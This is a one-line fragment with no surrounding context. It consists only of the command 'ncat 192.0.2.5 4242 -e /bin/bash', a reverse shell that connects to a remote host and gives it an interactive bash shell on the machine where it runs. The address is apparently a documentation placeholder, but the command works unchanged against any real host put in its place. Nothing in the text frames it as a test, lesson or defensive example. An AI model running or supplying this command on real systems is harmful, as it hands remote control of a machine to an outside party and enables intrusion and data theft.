ncat 192.0.2.5 4242 -e /bin/bash
